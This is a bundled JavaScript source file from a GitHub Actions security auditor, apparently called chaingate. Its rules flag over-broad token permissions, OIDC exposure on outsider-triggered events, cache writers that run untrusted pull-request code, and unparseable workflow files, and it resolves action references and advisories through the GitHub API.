var PUBLISH_COMMAND = anyCommand(PUBLISH_COMMANDS);
var PUBLISH_ACTIONS = new Set(PUBLISHING_ACTIONS.map((entry2) => entry2.action));
function publishingSteps(job) {
  const out = [];
  for (const step of job.steps) {
    if (step.uses) {
      if (PUBLISH_ACTIONS.has(step.uses.name)) out.push({ step, what: step.uses.name });
      else if (step.uses.name === "docker/build-push-action" && step.with.get("push")?.value?.value === "true") out.push({ step, what: "docker/build-push-action with push: true" });
    } else if (step.run) {
      const match = PUBLISH_COMMAND.exec(step.run.value);
      if (match) out.push({ step, what: `\`${match[0].trim()}\`` });
    }
  }
  return out;
}

// src/workflow/analysis/caches.ts
var CACHING = byAction(CACHING_ACTIONS);
function cacheRestores(job) {
  const out = [];
  for (const step of job.steps) {
    const uses = step.uses;
    if (!uses || uses.kind !== "remote") continue;
    const name = uses.name;
    const known2 = CACHING.get(name);
    if (!known2) continue;
    const input2 = (key2) => step.with.get(key2)?.value ?? null;
    if (known2.enabledBy) {
      const { input: key2, when, defaultFromMajor } = known2.enabledBy;
      const value = input2(key2);
      if (value) {
        const on = when === "set" ? value.value !== "" && value.value !== "false" : when === "not-false" ? value.value !== "false" : when === "true" ? value.value === "true" : when.test(value.value);
        if (on) out.push({ step, what: `${name} with ${key2}: ${when instanceof RegExp ? when.exec(value.value)[0] : value.value}`, input: value });
      } else if (defaultFromMajor !== void 0) {
        const major = Number(/^v(\d+)/.exec(uses.ref ?? "")?.[1] ?? NaN);
        if (Number.isFinite(major) && major >= defaultFromMajor) out.push({ step, what: `${name} (${uses.ref} caches by default)`, input: null });
      }
    } else if (!known2.disabledBy || input2(known2.disabledBy)?.value !== "true") {
      out.push({ step, what: known2.sayDefault ? `${name} (caches by default)` : name, input: null });
    }
  }
  return out;
}
function ancestors(job) {
  const out = /* @__PURE__ */ new Set();
  const stack = [job];
  while (stack.length > 0) {
    const current = stack.pop();
    for (const need of current.needs) {
      const upstream = current.workflow.jobsById.get(need.value);
      if (upstream && !out.has(upstream)) {
        out.add(upstream);
        stack.push(upstream);
      }
    }
  }
  return out;
}

// src/workflow/analysis/expression-helpers.ts
function refSpan(doc, str2, expression, node) {
  return expressionNodeSpan(doc.file, str2, expression, node);
}

// src/workflow/cache-writers.ts
var PRIVILEGED_TEXT = new RegExp(String.raw`\b(${[...PRIVILEGED_UNTRUSTED_EVENTS].join("|")})\b`);
var CACHE_TEXT = new RegExp(
  [String.raw`actions\/cache|\bcache\s*:|setup-go|rust-cache|sccache|ccache|bundler-cache|enable-cache|cache-from|gradle`, ...CACHING_ACTIONS.map((entry2) => entry2.action.replace(/[.*+?^${}()|[\]\\/]/g, "\\$&"))].join("|")
);
var PUBLISH_TEXT = /publish|release|deploy|\bpush\b|upload/;
var UNTRUSTED_TEXT = /\$\{\{[^}]*(head\.sha|head\.ref|head_ref|head_sha|head_branch|merge_commit_sha|\.title|\.body|\.message)|refs\/pull\/|gh\s+pr\s+checkout|download-artifact/;
function runsUntrustedCode(workflow, model, tracker) {
  if (privilegedUntrustedEvents(workflow, model).length === 0) return false;
  return workflow.jobs.some(
    (job) => untrustedCheckouts(job, tracker).some((checkout) => executionsAfter(job, checkout.step, checkout.path).length > 0) || job.steps.some((step) => step.run?.expressions.some((expression) => tracker.expressionTaint(expression, { job, step, action: null })?.level === "arbitrary"))
  );
}
function findCacheWriters(workspace) {
  const out = [];
  const texts = [];
  let restores = false;
  for (const { path: path6, kind } of listWorkflowFiles(workspace, workspace.isIgnored)) {
    if (kind !== "workflow") continue;
    const read = workspace.readText(path6, MAX_WORKFLOW_BYTES);
    if (!read.ok) continue;
    restores ||= CACHE_TEXT.test(read.text) && PUBLISH_TEXT.test(read.text);
    if (PRIVILEGED_TEXT.test(read.text) && UNTRUSTED_TEXT.test(read.text)) texts.push({ path: path6, text: read.text });
  }
  if (!restores) return out;
  for (const { path: path6, text } of texts) {
    const parsed = parseWorkflowText(path6, "workflow", text);
    if (!parsed.ok) continue;
    try {
      const workflow = buildWorkflow(Object.assign(parsed.file, { kind: "workflow" }));
      const model = { workflows: [workflow], actions: [], scripts: /* @__PURE__ */ new Map(), actionsByDir: /* @__PURE__ */ new Map() };
      if (runsUntrustedCode(workflow, model, new TaintTracker(model))) out.push(path6);
    } catch {
    }
  }
  return out;
}
var cacheWritersFact = defineFact("workflow.cache-writers", async (ctx) => known(findCacheWriters(ctx.workspace)));

// src/rules/build/excessive-permissions.ts
var MINIMAL_PERMISSIONS_FIX = "permissions: {}   # then grant each job only what it uses, e.g. `permissions: { contents: read }`";
function isReusableOnly(workflow) {
  return workflow.triggers.length > 0 && workflow.triggers.every((trigger) => trigger.event === "workflow_call");
}
function minimalPermissions(job, needed, indent = "") {
  const lines2 = [`${indent}permissions:`];
  const scopes = /* @__PURE__ */ new Map();
  if (job.steps.some((step) => step.uses?.name === "actions/checkout") || !needed.has("contents")) scopes.set("contents", "read");
  for (const scope of [...needed].sort()) scopes.set(scope, "write");
  if (scopes.size === 0) return `${indent}permissions: {}`;
  for (const [scope, level] of [...scopes].sort(([a], [b]) => a < b ? -1 : a > b ? 1 : 0)) lines2.push(`${indent}  ${scope}: ${level}`);
  return lines2.join("\n");
}
function writeScopes(permissions) {
  if (!permissions || permissions.form !== "map") return [];
  return [...permissions.scopes].filter(([, entry2]) => entry2.level === "write").map(([scope]) => scope);
}
function auditWorkflow(workflow, model, results) {
  const privileged = privilegedUntrustedEvents(workflow, model);
  const risky = privileged.length > 0;
  const top = workflow.permissions;
  const at = (node) => nodeLocation(workflow, node);
  const tracker = risky ? trackerFor(model) : null;
  const reachedBy = (jobs) => tracker ? jobs.map((job) => ({ job, how: outsiderInputIn(job, tracker) })).find((entry2) => entry2.how !== null) : void 0;
  if (top?.form === "write-all" && top.node) {
    results.push({ status: "fail", severity: risky ? "critical" : "high", message: `the workflow grants write-all to the GITHUB_TOKEN${risky ? ` on ${privileged.join(", ")}` : ""}`, location: at(top.node), fix: MINIMAL_PERMISSIONS_FIX });
  }
  for (const job of workflow.jobs) {
    if (job.permissions?.form === "write-all" && job.permissions.node) {
      results.push({ status: "fail", severity: risky ? "critical" : "high", message: `job ${job.id} grants write-all to the GITHUB_TOKEN`, location: at(job.permissions.node), fix: minimalPermissions(job, neededOrEmpty(job), "    ") });
    }
  }
  const jobsWithout = workflow.jobs.filter((job) => !job.permissions);
  if (!top && jobsWithout.length > 0 && !isReusableOnly(workflow)) {
    const anchor = workflow.jobsKey ?? workflow.on?.keyNode;
    const reached = reachedBy(jobsWithout);
    const onEvents = risky ? ` on ${privileged.join(", ")}, which outsiders can trigger` : "";
    const why = !risky ? "" : reached ? ` (job ${reached.job.id}, ${reached.how})` : "; no step of these jobs visibly handles their code or text";
    results.push({
      status: "fail",
      severity: reached ? "high" : "medium",
      message: `no permissions: block at the top of the workflow, and job${jobsWithout.length > 1 ? "s" : ""} ${jobsWithout.map((job) => job.id).join(", ")} set${jobsWithout.length > 1 ? "" : "s"} none: the token gets the repository default${onEvents}${why}`,
      ...anchor ? { location: at(anchor) } : {},
      fix: missingFix(workflow, jobsWithout)
    });
  }
  for (const job of workflow.jobs) {
    const own = writeScopes(job.permissions);
    if (own.length === 0) continue;
    const needs = scopeNeeds(job);
    if (!needs.known) continue;
    for (const scope of own) {
      if (needs.scopes.has(scope)) continue;
      const entry2 = job.permissions.scopes.get(scope);
      results.push({
        status: "fail",
        severity: reachedBy([job]) ? "high" : "medium",
        message: `job ${job.id} grants ${scope}: write, but none of its steps needs it`,
        location: at(entry2.keyNode),
        fix: minimalPermissions(job, needs.scopes, "    ")
      });
    }
  }
  const inheriting = workflow.jobs.filter((job) => !job.permissions);
  if (top && inheriting.length > 0) {
    const analyses = inheriting.map((job) => ({ job, needs: scopeNeeds(job) }));
    if (analyses.every((a) => a.needs.known)) {
      for (const scope of writeScopes(top)) {
        const users = analyses.filter((a) => a.needs.known && a.needs.scopes.has(scope)).map((a) => a.job.id);
        const entry2 = top.scopes.get(scope);
        if (users.length === 0) {
          results.push({
            status: "fail",
            severity: reachedBy(inheriting) ? "high" : "medium",
            message: `the workflow grants ${scope}: write to ${inheriting.length === 1 ? `job ${inheriting[0].id}` : `jobs ${inheriting.map((j) => j.id).join(", ")}`}, but no step needs it`,
            location: at(entry2.keyNode),
            fix: inheriting.length === 1 ? minimalPermissions(inheriting[0], analyses[0].needs.scopes) : MINIMAL_PERMISSIONS_FIX
          });
        } else if (users.length < inheriting.length) {
          const others = inheriting.filter((job) => !users.includes(job.id)).map((job) => job.id);
          results.push({
            status: "fail",
            severity: "low",
            message: `the workflow grants ${scope}: write to every job, but only ${users.join(", ")} need${users.length === 1 ? "s" : ""} it (not ${others.join(", ")}): move it to the job level`,
            location: at(entry2.keyNode),
            fix: `permissions: {}   # at the top; then in ${users.join(", ")}: permissions: { ${scope}: write }`
          });
        }
      }
    }
  }
  if (risky) {
    for (const job of workflow.jobs) {
      const permissions = job.permissions ?? top;
      const entry2 = permissions?.form === "map" ? permissions.scopes.get("id-token") : void 0;
      if (!entry2 || entry2.level !== "write") continue;
      const gates = gatesFor(job);
      if (blocksForks(gates)) continue;
      const severity = gates.length > 0 ? "medium" : "high";
      results.push({
        status: "fail",
        severity,
        message: `job ${job.id} can mint OIDC tokens (id-token: write) on ${privileged.join(", ")}, which outsiders can trigger: any code injected there can assume the cloud or registry identities that trust this repository${gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : ""}`,
        location: at(entry2.keyNode),
        fix: "Move the job that needs id-token into a workflow triggered by push/release (or behind an environment with reviewers)."
      });
    }
  }
}
function missingFix(workflow, jobsWithout) {
  if (workflow.jobs.length === 1 && jobsWithout.length === 1 && scopeNeeds(jobsWithout[0]).known) return minimalPermissions(jobsWithout[0], neededOrEmpty(jobsWithout[0]));
  const lines2 = ["permissions: {}"];
  for (const job of jobsWithout) {
    const needs = scopeNeeds(job);
    if (job.uses) lines2.push(`# job ${job.id} calls a reusable workflow: grant what the called workflow uses`);
    else if (!needs.known) lines2.push(`# job ${job.id}: grant what it uses (${needs.why})`);
    else lines2.push(`# job ${job.id}:`, minimalPermissions(job, needs.scopes, "#   "));
  }
  return lines2.join("\n");
}
function neededOrEmpty(job) {
  const needs = scopeNeeds(job);
  return needs.known ? needs.scopes : /* @__PURE__ */ new Set();
}
var excessivePermissions = defineWorkflowRule({
  meta: {
    id: "excessive-permissions",
    area: "build",
    severity: "medium",
    title: "Workflow token permissions broader than needed",
    rationale: "Without a `permissions:` block the GITHUB_TOKEN gets the repository default, which is read/write on older repositories and organizations; `write-all` grants every scope; a write scope no step uses is only useful to an attacker who compromises a step.",
    remediation: "Add `permissions: {}` (or `contents: read`) at the top of the workflow and grant each job only the scopes it uses.",
    references: ["SSC-49", "OSPS-BR-01", "zizmor: excessive-permissions", "Scorecard: Token-Permissions", "poutine: default_permissions_on_risky_events"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    for (const workflow of model.workflows) auditWorkflow(workflow, model, results);
    return results;
  }
});

// src/rules/build/invalid-workflow.ts
var invalidWorkflow = defineRule({
  meta: {
    id: "invalid-workflow",
    area: "build",
    severity: "high",
    title: "Workflow or action file could not be audited",
    rationale: "A file chaingate cannot parse is a file no rule has looked at; it must not pass silently.",
    remediation: "Fix the YAML error at the reported line (GitHub rejects such workflows too); replace a symbolic link that leads outside the repository (or nowhere) by the file itself; or exclude the path with ignore-paths.",
    references: ["OSPS-BR-01"],
    access: { token: "none" }
  },
  needs: [workflowFilesFact],
  uses: [skippedWorkflowLinksFact],
  defaultOptions: {},
  evaluate(ctx) {
    const files = ctx.need(workflowFilesFact);
    const failures = files.failures.map((failure) => ({
      status: "fail",
      message: `${failure.kind === "workflow" ? "workflow" : "action metadata"} not audited: ${failure.message}`,
      location: { path: failure.path, startLine: failure.line, startColumn: failure.column, endLine: failure.line, endColumn: failure.column }
    }));
    const skipped = ctx.fact(skippedWorkflowLinksFact);
    if (!skipped.known) failures.push({ status: "unknown", message: `symbolic links under .github could not be listed, so a workflow behind one may not be audited: ${skipped.reason}`, location: { path: ".github", startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 } });
    const links = (skipped.known ? skipped.value : []).map((link) => {
      const kind = workflowFileKind(link.path);
      const what2 = kind === "workflow" ? "workflow" : kind === "action" ? "action metadata" : `the workflows under ${link.path}`;
      return { status: "fail", message: `${what2} not audited: ${link.reason}; chaingate follows symbolic links only to targets inside the repository`, location: { path: link.path, startLine: 1, startColumn: 1, endLine: 1, endColumn: 1 } };
    });
    return [...failures, ...links];
  }
});

// src/workspace/workflow-prescan.ts
import path2 from "node:path";
var USES = /(?:^|[\s{,-])uses\s*:\s*(?:"([^"\n]*)"|'([^'\n]*)'|([^\s#,}\n]+))/gm;
var TOP_LEVEL_NAME = /^name\s*:\s*(?:"([^"\n]*)"|'([^'\n]*)'|([^#\n]*?))\s*(?:#.*)?$/m;
function* usesValues(text) {
  for (const match of text.matchAll(USES)) {
    const raw = match[1] ?? match[2] ?? match[3] ?? "";
    const value = raw.trim();
    if (value === "") continue;
    const offset = (match.index ?? 0) + match[0].length - raw.length - (match[3] === void 0 ? 1 : 0) + (raw.length - raw.trimStart().length);
    yield { value, offset };
  }
}
function prescanText(relative, kind, text, exists) {
  const links = /* @__PURE__ */ new Set();
  const remoteUses = [];
  for (const { value } of usesValues(text)) {
    const local = value.startsWith("./") ? value.slice(2) : value.startsWith("$/") ? value.slice(2) : null;
    if (local === null) {
      remoteUses.push(value);
      continue;
    }
    const target2 = path2.posix.normalize(local.split("@")[0].replace(/\/+$/, ""));
    if (target2.startsWith("..")) continue;
    for (const candidate of [target2, `${target2}/action.yml`, `${target2}/action.yaml`]) if (exists(candidate)) links.add(candidate);
  }
  const nameMatch = kind === "workflow" ? TOP_LEVEL_NAME.exec(text) : null;
  const name = nameMatch ? (nameMatch[1] ?? nameMatch[2] ?? nameMatch[3] ?? "").trim() : "";
  return { path: relative, kind, links: [...links], remoteUses, ...name ? { name } : {} };
}
function prescanWorkflowFiles(workspace) {
  const listed = listWorkflowFiles(workspace, workspace.isIgnored);
  const known2 = new Set(listed.map((file) => file.path));
  const texts = /* @__PURE__ */ new Map();
  const files = listed.map(({ path: relative, kind }) => {
    const read = workspace.readText(relative, MAX_WORKFLOW_BYTES);
    if (!read.ok) return { path: relative, kind, links: [], remoteUses: [] };
    texts.set(relative, read.text);
    return prescanText(relative, kind, read.text, (candidate) => known2.has(candidate));
  });
  return { files, groups: groupFiles(files, texts) };
}
function groupFiles(files, texts) {
  const kindOf = new Map(files.map((file) => [file.path, file.kind]));
  const linksOf = new Map(files.map((file) => [file.path, file.links]));
  const parent = new Map(files.map((file) => [file.path, file.path]));
  const find = (node) => {
    let root = node;
    while (parent.get(root) !== root) root = parent.get(root);
    for (let current = node; current !== root; ) {
      const next = parent.get(current);
      parent.set(current, root);
      current = next;
    }
    return root;
  };
  const union = (a, b) => {
    if (parent.has(a) && parent.has(b)) parent.set(find(a), find(b));
  };
  for (const file of files) for (const link of file.links) if (kindOf.get(link) === "workflow" && file.kind === "workflow") union(file.path, link);
  const byName = /* @__PURE__ */ new Map();
  for (const file of files) {
    if (file.kind !== "workflow") continue;
    for (const key2 of [file.name, path2.posix.basename(file.path)]) if (key2) byName.set(key2, [...byName.get(key2) ?? [], file.path]);
  }
  for (const file of files) {
    const text = texts.get(file.path);
    if (!text || !text.includes("workflow_run")) continue;
    const names = workflowRunNames(text);
    if (names) {
      for (const name of names) for (const other of byName.get(name) ?? []) union(file.path, other);
      continue;
    }
    for (const [name, paths] of byName) if (text.includes(name)) for (const other of paths) union(file.path, other);
  }
  const members = /* @__PURE__ */ new Map();
  for (const file of files) {
    const root = find(file.path);
    members.set(root, [...members.get(root) ?? [], file.path]);
  }
  return [...members.values()].map((group) => {
    const inGroup = new Set(group);
    const pending = [...group];
    while (pending.length > 0) {
      for (const link of linksOf.get(pending.pop()) ?? []) {
        if (kindOf.get(link) !== "action" || inGroup.has(link)) continue;
        inGroup.add(link);
        pending.push(link);
      }
    }
    return files.map((file) => file.path).filter((candidate) => inGroup.has(candidate));
  });
}
function workflowRunNames(text) {
  const names = [];
  let found = false;
  const unquote = (value) => value.trim().replace(/^(["'])(.*)\1$/, "$2").trim();
  for (const match of text.matchAll(/^([ \t]*)workflows\s*:[ \t]*(.*)$/gm)) {
    const rest = (match[2] ?? "").replace(/\s+#.*$/, "").trim();
    if (rest.startsWith("[")) {
      if (!rest.endsWith("]")) return null;
      found = true;
      names.push(...rest.slice(1, -1).split(",").map(unquote).filter(Boolean));
    } else if (rest === "") {
      const after = text.slice((match.index ?? 0) + match[0].length + 1).split("\n");
      for (const line of after) {
        const item = /^[ \t]*-[ \t]+(.*?)\s*(?:#.*)?$/.exec(line);
        if (!item) break;
        found = true;
        names.push(unquote(item[1] ?? ""));
      }
    } else {
      found = true;
      names.push(unquote(rest));
    }
  }
  return found ? names : null;
}
var workflowPrescanFact = defineFact("workspace.workflow-prescan", async (ctx) => known(prescanWorkflowFiles(ctx.workspace)));

// src/github/facts/action-refs.ts
var REPOS_PER_QUERY = 20;
var CONCURRENCY = 8;
var PACKAGES_PER_ADVISORY_QUERY = 100;
var FULL_SHA = /^[0-9a-f]{40}$/i;
function refKey(owner, repo, ref) {
  return `${owner.toLowerCase()}/${repo.toLowerCase()}@${ref}`;
}
function collectActionRefsFromText(values) {
  const seen = /* @__PURE__ */ new Map();
  for (const value of values) {
    const parsed = parseUsesText(value);
    if (parsed.kind !== "remote" || !parsed.ref || parsed.ref.includes("${{")) continue;
    const key2 = refKey(parsed.owner, parsed.repo, parsed.ref);
    if (!seen.has(key2)) seen.set(key2, { owner: parsed.owner, repo: parsed.repo, path: parsed.path ?? "", ref: parsed.ref });
  }
  return [...seen.values()];
}
async function pool(tasks, limit = CONCURRENCY) {
  const results = new Array(tasks.length);
  let next = 0;
  const worker = async () => {
    while (next < tasks.length) {
      const index = next;
      next += 1;
      results[index] = await tasks[index]();
    }
  };
  await Promise.all(Array.from({ length: Math.min(limit, tasks.length) }, () => worker()));
  return results;
}
function parseVersion(text) {
  const match = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?$/i.exec(text.trim());
  if (!match) return void 0;
  return [match[1], match[2], match[3]].filter((part) => part !== void 0).map(Number);
}
function compareVersions(a, b) {
  for (let i = 0; i < 3; i += 1) {
    const diff = (a[i] ?? 0) - (b[i] ?? 0);
    if (diff !== 0) return diff;
  }
  return 0;
}
function inRange(version, range) {
  const parsed = parseVersion(version);
  if (!parsed || !range) return false;
  return range.split(",").every((clause) => {
    const match = /^\s*(<=|>=|<|>|=)?\s*v?([\d.]+)\s*$/.exec(clause);
    if (!match) return false;
    const bound = parseVersion(match[2]);
    if (!bound) return false;
    const diff = compareVersions(parsed, bound);
    switch (match[1] ?? "=") {
      case "<":
        return diff < 0;
      case "<=":
        return diff <= 0;
      case ">":
        return diff > 0;
      case ">=":
        return diff >= 0;
      default:
        return diff === 0;
    }
  });
}
function mostSpecificVersion(names) {
  let best;
  for (const name of names) {
    const parts = parseVersion(name);
    if (!parts) continue;
    if (!best || parts.length > best.parts.length || parts.length === best.parts.length && compareVersions(parts, best.parts) > 0) best = { name, parts };
  }
  return best?.name;
}
function peel(target2) {
  if (!target2) return void 0;
  if (target2.__typename === "Tag" && target2.target?.oid) return target2.target.oid.toLowerCase();
  return target2.oid?.toLowerCase();
}
var str = (text) => JSON.stringify(text);
function batchQuery(repos) {
  const parts = repos.map(({ owner, repo, refs }, i) => {
    const perRef = refs.map(
      (ref, j) => FULL_SHA.test(ref) ? `o${j}: object(oid: ${str(ref.toLowerCase())}) { __typename oid }` : `b${j}: ref(qualifiedName: ${str(`refs/heads/${ref}`)}) { target { oid } } t${j}: ref(qualifiedName: ${str(`refs/tags/${ref}`)}) { target { __typename oid ... on Tag { target { oid } } } }`
    ).join(" ");
    return `r${i}: repository(owner: ${str(owner)}, name: ${str(repo)}) { nameWithOwner defaultBranchRef { name target { oid } } tags: refs(refPrefix: "refs/tags/", first: 100, orderBy: {field: TAG_COMMIT_DATE, direction: DESC}) { nodes { name target { __typename oid ... on Tag { target { oid } } } } } heads: refs(refPrefix: "refs/heads/", first: 100) { nodes { name target { oid } } } ${perRef} }`;
  });
  return `query { ${parts.join(" ")} }`;
}
async function runBatch(client, batch) {
  try {
    const data = await client.octokit.graphql(batchQuery(batch));
    return { data, aliasErrors: /* @__PURE__ */ new Map() };
  } catch (error) {
    const failure = classifyApiError(error);
    const partial = error.data;
    const errors = error.errors ?? [];
    const perRepository = errors.length > 0 && errors.every((item) => typeof item.path?.[0] === "string" && /^r\d+$/.test(item.path[0]));
    if (failure.graphqlTypes && !failure.graphqlTypes.includes("RATE_LIMITED") && perRepository && partial && typeof partial === "object") {
      const aliasErrors = /* @__PURE__ */ new Map();
      for (const item of errors) {
        const alias = item.path[0];
        if (item.type === "NOT_FOUND" && item.path.length === 1) continue;
        aliasErrors.set(alias, `GitHub's GraphQL API answered ${item.type ?? "an error"} (${shorten(item.message ?? "")})`);
      }
      return { data: partial, aliasErrors };
    }
    return { data: {}, error: failure.message, aliasErrors: /* @__PURE__ */ new Map() };
  }
}
function describe(error) {
  return classifyApiError(error).message;
}
function resolveFromRepository(use, repository, batchError) {
  return use.refs.map((ref, j) => {
    const isSha = FULL_SHA.test(ref);
    const base = { owner: use.owner, repo: use.repo, ref, key: refKey(use.owner, use.repo, ref), status: "resolved", isSha, isBranch: false, isTag: false };
    if (batchError) return { ...base, status: "error", error: batchError, ...isSha ? { reachable: "unknown" } : {} };
    if (repository === void 0 || repository !== null && typeof repository !== "object") {
      return { ...base, status: "error", error: `GitHub's GraphQL answer has no entry for ${use.owner}/${use.repo}`, ...isSha ? { reachable: "unknown" } : {} };
    }
    if (repository === null) return { ...base, status: "repo-not-found", ...isSha ? { reachable: "not-found" } : {} };
    const tags = (repository.tags?.nodes ?? []).flatMap((node) => node?.name ? [{ name: node.name, sha: peel(node.target) }] : []);
    const heads = (repository.heads?.nodes ?? []).flatMap((node) => node?.name ? [{ name: node.name, sha: peel(node.target) }] : []);
    const defaultBranch = repository.defaultBranchRef?.name;
    const withDefault = defaultBranch ? { defaultBranch } : {};
    const versionAt = (sha2, preferred) => {
      if (!sha2) return void 0;
      const names = tags.filter((tag2) => tag2.sha === sha2).map((tag2) => tag2.name);
      return mostSpecificVersion(preferred ? [...names, preferred] : names);
    };
    if (isSha) {
      const sha2 = ref.toLowerCase();
      const object = repository[`o${j}`];
      const version2 = versionAt(sha2);
      const tagCommits = {};
      for (const tag2 of tags) if (tag2.sha) tagCommits[tag2.name] = tag2.sha;
      const resolution = { ...base, ...withDefault, sha: sha2, ...version2 ? { version: version2 } : {}, tagCommits };
      if (!object || object.__typename !== "Commit") return { ...resolution, status: "ref-not-found", reachable: "not-found" };
      if (tags.some((tag2) => tag2.sha === sha2)) return { ...resolution, reachable: "tag" };
      if (heads.some((head) => head.sha === sha2) || peel(repository.defaultBranchRef?.target) === sha2) return { ...resolution, reachable: "branch-head" };
      return { ...resolution, reachable: "unknown" };
    }
    const branch = repository[`b${j}`];
    const tag = repository[`t${j}`];
    const tagSha = peel(tag?.target);
    const branchSha = peel(branch?.target);
    const sha = tagSha ?? branchSha;
    if (!sha) return { ...base, ...withDefault, status: "ref-not-found" };
    const version = tagSha ? versionAt(tagSha, parseVersion(ref) ? ref : void 0) : void 0;
    return { ...base, ...withDefault, isBranch: Boolean(branch), isTag: Boolean(tag), sha, ...version ? { version } : {} };
  });
}
async function settleReachability(client, resolution) {
  if (!resolution.defaultBranch || !resolution.sha) return { ...resolution, reachable: "unknown", error: "the repository has no default branch to compare with" };
  try {
    const response = await client.octokit.rest.repos.compareCommitsWithBasehead({
      owner: resolution.owner,
      repo: resolution.repo,
      basehead: `${resolution.defaultBranch}...${resolution.sha}`,
      per_page: 1
    });
    const status = response.data.status;
    return { ...resolution, reachable: status === "behind" || status === "identical" ? "default-branch" : "unreachable" };
  } catch (error) {
    if (isApiError(error) && error.status === 404) return { ...resolution, reachable: "not-found" };
    return { ...resolution, reachable: "unknown", error: describe(error) };
  }
}
async function fetchAdvisories(client, packages) {
  if (packages.length === 0) return known([]);
  const chunks = [];
  for (let i = 0; i < packages.length; i += PACKAGES_PER_ADVISORY_QUERY) chunks.push(packages.slice(i, i + PACKAGES_PER_ADVISORY_QUERY));
  try {
    const pages = await pool(
      chunks.map(
        (chunk) => async () => (await listAll(client, "GET /advisories", { ecosystem: "actions", affects: chunk.join(",") })).items
      )
    );
    const byId = /* @__PURE__ */ new Map();
    for (const advisory of pages.flat()) {
      byId.set(advisory.ghsa_id, {
        ghsaId: advisory.ghsa_id,
        cveId: advisory.cve_id,
        summary: advisory.summary,
        severity: advisory.severity,
        htmlUrl: advisory.html_url,
        withdrawn: Boolean(advisory.withdrawn_at),
        vulnerabilities: (advisory.vulnerabilities ?? []).flatMap(
          (vulnerability) => vulnerability.package?.name && vulnerability.package.ecosystem === "actions" ? [{ package: vulnerability.package.name, range: vulnerability.vulnerable_version_range, firstPatched: vulnerability.first_patched_version }] : []
        )
      });
    }
    return known([...byId.values()]);
  } catch (error) {
    return factFromApiError(error, { what: "the GitHub Advisory Database (GET /advisories)", permission: "none (public data); on GHES, GitHub Connect" });
  }
}
function affected(advisories, packages, version) {
  const names = new Set(packages.map((name) => name.toLowerCase()));
  const found = [];
  for (const advisory of advisories) {
    if (advisory.withdrawn) continue;
    const hit = advisory.vulnerabilities.find((vulnerability) => names.has(vulnerability.package.toLowerCase()) && inRange(version, vulnerability.range));
    if (hit) found.push({ advisory, firstPatched: hit.firstPatched });
  }
  return found;
}
async function resolveActionRefs(client, uses) {
  const byRepo = /* @__PURE__ */ new Map();
  const packages = /* @__PURE__ */ new Set();
  for (const use of uses) {
    const repoKey = `${use.owner.toLowerCase()}/${use.repo.toLowerCase()}`;
    const entry2 = byRepo.get(repoKey) ?? { owner: use.owner, repo: use.repo, refs: [] };
    if (!entry2.refs.includes(use.ref)) entry2.refs.push(use.ref);
    byRepo.set(repoKey, entry2);
    packages.add(`${use.owner}/${use.repo}`);
    if (use.path) packages.add(`${use.owner}/${use.repo}/${use.path}`);
  }
  const repos = [...byRepo.values()];
  const batches = [];
  for (let i = 0; i < repos.length; i += REPOS_PER_QUERY) batches.push(repos.slice(i, i + REPOS_PER_QUERY));
  const advisoriesPromise = fetchAdvisories(client, [...packages].sort());
  const resolved = (await pool(
    batches.map((batch) => async () => {
      const { data, error, aliasErrors } = await runBatch(client, batch);
      return batch.flatMap((use, i) => resolveFromRepository(use, data[`r${i}`], error ?? aliasErrors.get(`r${i}`)));
    })
  )).flat();
  const settled = await pool(resolved.map((resolution) => async () => resolution.isSha && resolution.status === "resolved" && resolution.reachable === "unknown" ? settleReachability(client, resolution) : resolution));
  const refs = {};
  for (const resolution of settled) refs[resolution.key] = resolution;
  return { refs, advisories: await advisoriesPromise };
}
var actionRefsFact = defineFact("github.action-refs", async (ctx) => {
  const prescan = await ctx.get(workflowPrescanFact);
  if (!prescan.known) return prescan;
  const uses = collectActionRefsFromText(prescan.value.files.flatMap((file) => file.remoteUses));
  if (uses.length === 0) return known({ refs: {}, advisories: known([]) });
  if (!ctx.github) {
    return unknownFact("no-token", `${uses.length} action reference${uses.length === 1 ? "" : "s"} not resolved: no GitHub token (offline run)`, "Contents: read (public action repositories need no permission)");
  }
  const resolved = await resolveActionRefs(ctx.github, uses);
  const gaps = Object.values(resolved.refs).flatMap(
    (resolution) => resolution.status === "error" || resolution.isSha && resolution.reachable === "unknown" ? [{ subject: `${resolution.owner}/${resolution.repo}@${resolution.ref}`, reason: resolution.error ?? "not resolved" }] : []
  );
  return known(resolved, gaps);
});
var sitesOf = new ObjectMemo();
function resolvedSites(ctx) {
  return { sites: usesSites(ctx.need(workflowModelFact)), refs: ctx.need(actionRefsFact) };
}
function usesSites(model) {
  let sites = sitesOf.get(model);
  if (!sites) {
    sites = [];
    const add = (doc, uses, level) => {
      if (!uses || uses.kind !== "remote" || !uses.ref || uses.ref.includes("${{")) return;
      sites.push({ doc, file: doc.file, node: uses.node, value: uses.raw, owner: uses.owner, repo: uses.repo, path: uses.path ?? "", ref: uses.ref, key: refKey(uses.owner, uses.repo, uses.ref), level });
    };
    for (const workflow of model.workflows) {
      for (const job of workflow.jobs) {
        add(workflow, job.uses, "job");
        for (const step of job.steps) add(workflow, step.uses, "step");
      }
    }
    for (const action of model.actions) for (const step of action.runs?.steps ?? []) add(action, step.uses, "step");
    sitesOf.set(model, sites);
  }
  return sites;
}

// src/rules/build/unpinned-uses.ts
var GITHUB_OWNED = new Set(GITHUB_ACTION_OWNERS.map((entry2) => entry2.owner));
var TAG_REQUIRED = TAG_PINNED_WORKFLOWS.map((entry2) => ({ glob: entry2.action, ref: entry2.ref }));
function tagRequired(name, ref, options) {
  return TAG_REQUIRED.some(
    (entry2) => minimatch(name, entry2.glob, { nocase: true }) && entry2.ref.test(ref) && !matchingGlobs(name, options).some(([glob]) => specificity(glob) >= specificity(entry2.glob))
  );
}
function specificity(glob) {
  return glob.replace(/[*?[\]{}!]/g, "").length * 10 - (glob.match(/\*/g)?.length ?? 0);
}
function matchingGlobs(name, options) {
  const table = [...Object.entries(options.policy ?? {}), ...(options["ref-pin-allowed"] ?? []).map((glob) => [glob, "ref-pin"])];
  const parts = name.split("/");
  const matches = (glob) => glob.includes("/") ? minimatch(name, glob, { nocase: true }) || minimatch(parts.slice(0, 2).join("/"), glob, { nocase: true }) : minimatch(parts[0] ?? "", glob, { nocase: true });
  return table.filter(([glob]) => matches(glob));
}
function policyFor(name, options) {
  const candidates = matchingGlobs(name, options);
  if (candidates.length === 0) return "hash-pin";
